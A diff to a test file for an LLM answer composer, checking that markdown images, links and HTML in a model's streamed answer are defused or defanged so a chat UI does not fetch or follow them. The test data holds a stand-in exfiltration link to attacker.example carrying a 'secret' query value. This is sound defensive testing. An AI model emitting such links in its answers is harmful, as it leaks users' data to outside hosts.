@@ -146,7 +146,7 @@ describe("the chain with an LLM composer", () => {
     expect(result.citations.map((citation) => citation.id)).toEqual(["att_1"]);
   }, 60_000);
 
-  it("defuses markdown images and HTML an LLM answer could make a chat UI fetch", async () => {
+  it("defuses markdown images, links and HTML an LLM answer could make a chat UI fetch or follow", async () => {
     llmServer.reply({
       deltas: [
         `The ${confident.shape} is ${confident.color} [att_1]. !`,
@@ -168,7 +168,10 @@ describe("the chain with an LLM composer", () => {
     expect(streamed).toBe(done.data.answer);
     expect(done.data.answer).not.toContain("![");
     expect(done.data.answer).not.toContain("<img");
-    expect(done.data.answer).toContain("[pixel](https://attacker.example/?q=secret)");
+    expect(done.data.answer).not.toContain("](https://");
+    // The link's text and destination stay readable as plain text, its scheme defanged.
+    expect(done.data.answer).toContain("pixel (https[:]//attacker.example/?q=secret)");
+    expect(done.data.answer).toContain(`The ${confident.shape} is ${confident.color} [att_1].`);
   }, 60_000);
 
   it("falls back to the offline composer when the LLM fails, and says so", async () => {
